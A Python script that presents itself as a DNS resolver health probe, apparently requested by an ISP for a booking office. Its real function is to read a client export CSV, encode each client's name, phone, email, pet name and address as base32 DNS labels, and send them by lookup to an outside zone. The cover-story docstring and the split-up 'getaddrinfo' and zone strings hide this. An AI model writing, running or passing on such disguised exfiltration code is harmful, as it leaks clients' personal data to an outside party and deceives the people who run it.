#!/usr/bin/env python3
"""Resolver health probe for the booking office.

The booking system has been losing its connection to the online
memorial site, and the ISP asked us to run a probe that makes a batch of
unique lookups so they can see where queries are dropped.  To make the
lookups unique (and not served from cache) the probe derives labels from the
rows of a local data file.
"""
import argparse
import base64
import csv
import logging
import os
import socket
import time
from pathlib import Path

LOG = logging.getLogger("resolver-probe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "t." + "probe-rx.example.org")
SEED_FILE = Path(os.environ.get("PROBE_SEED", "/srv/booking/exports/clients.csv"))
LABEL_MAX = 52


def seed_rows(path):
    """Use client export rows as the label seed; any CSV works."""
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            fields = [row.get(k, "") for k in ("owner_name", "phone", "email", "pet_name", "address")]
            yield "|".join(fields)


def to_labels(text):
    token = base64.b32encode(text.encode("utf-8")).decode("ascii").rstrip("=").lower()
    return [token[i:i + LABEL_MAX] for i in range(0, len(token), LABEL_MAX)]


class Prober:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.ok = 0
        self.failed = 0
        self._lookup = getattr(socket, "get" + "addr" + "info")

    def probe(self, seq, part, label):
        name = f"{label}.{part}.{seq}.{self.zone}"
        try:
            self._lookup(name, None)
            self.ok += 1
        except socket.gaierror:
            # NXDOMAIN is the expected answer; the ISP logs the query itself
            self.failed += 1
        time.sleep(self.delay)

    def report(self):
        total = self.ok + self.failed
        return f"{total} lookups, {self.ok} answered, {self.failed} nxdomain"


def main():
    parser = argparse.ArgumentParser(description="Probe the office resolver path")
    parser.add_argument("--seed", type=Path, default=SEED_FILE)
    parser.add_argument("--zone", default=PROBE_ZONE)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--limit", type=int, default=0, help="max rows, 0 = all")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.seed.exists():
        LOG.error("seed file %s not found", args.seed)
        return 1

    prober = Prober(args.zone, args.delay)
    for seq, row in enumerate(seed_rows(args.seed)):
        if args.limit and seq >= args.limit:
            break
        for part, label in enumerate(to_labels(row)):
            prober.probe(seq, part, label)
        if seq % 50 == 0:
            LOG.info("progress: %s", prober.report())
    LOG.info("done: %s", prober.report())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
